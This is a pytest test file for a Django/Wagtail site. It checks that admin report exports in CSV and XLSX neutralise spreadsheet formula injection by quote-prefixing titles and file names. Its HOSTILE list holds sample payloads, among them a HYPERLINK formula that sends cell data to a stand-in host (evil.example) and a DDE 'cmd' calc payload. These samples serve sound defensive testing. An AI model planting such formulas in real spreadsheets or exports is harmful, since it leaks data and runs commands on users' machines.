"""Admin report exports: text that a spreadsheet would run as a formula stays text, in CSV and XLSX."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import Group

from core.reports import neutralise_formula
from importer.models import ImportRecord
from ratings.models import Rating
from tests.factories import ArticlePageFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_evaluate_gets_a_leading_apostrophe(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["Bình thường", "Thi đua = khen thưởng", "", 3, -4, 2.5, None])
def test_ordinary_text_and_numbers_are_left_alone(value):
    assert neutralise_formula(value) == value


def download(client, url):
    response = client.get(url)
    assert response.status_code == 200, url
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def hostile_ratings(campaign, django_user_model):
    rater = django_user_model.objects.create_user("tt1", password="x")
    rater.groups.add(Group.objects.get(name="Truyền thông"))
    for n, title in enumerate(HOSTILE):
        page = ArticlePageFactory(parent=campaign, title=title, slug=f"doc-hai-{n}")
        Rating.objects.create(page=page, user=rater, score=1 + n % 5)


def test_ratings_csv_prefixes_every_hostile_title_and_starts_with_a_bom(admin_client, hostile_ratings):
    data = download(admin_client, "/admin/reports/danh-gia/?export=csv")
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    titles = {row[0] for row in rows[1:]}
    assert titles == {"'" + text for text in HOSTILE}


def test_ratings_xlsx_keeps_hostile_titles_as_quoted_text_cells(admin_client, hostile_ratings):
    """Wagtail already writes a would-be formula as a text cell; the cell is also quote-prefixed."""
    data = download(admin_client, "/admin/reports/danh-gia/?export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # Shown exactly as typed, not as '…; XML reads a carriage return back as a line feed.
    assert {cell.value for cell in cells} == {text.replace("\r", "\n") for text in HOSTILE}
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_import_report_escapes_titles_and_file_names(admin_client, campaign):
    page = ArticlePageFactory(parent=campaign, title="=1+2", slug="nhap-doc-hai")
    ImportRecord.objects.create(
        article=page, source_key="k", source_file="@tep.txt", content_hash="h", missing_photos=1
    )
    rows = list(
        csv.reader(io.StringIO(download(admin_client, "/admin/reports/bai-nhap/?export=csv").decode("utf-8-sig")))
    )
    assert rows[1][0] == "'=1+2" and rows[1][3] == "'@tep.txt"
    sheet = openpyxl.load_workbook(io.BytesIO(download(admin_client, "/admin/reports/bai-nhap/?export=xlsx"))).active
    title, *_, source, _ = next(sheet.iter_rows(min_row=2))
    assert (title.value, title.data_type, source.value, source.quotePrefix) == ("=1+2", "s", "@tep.txt", True)
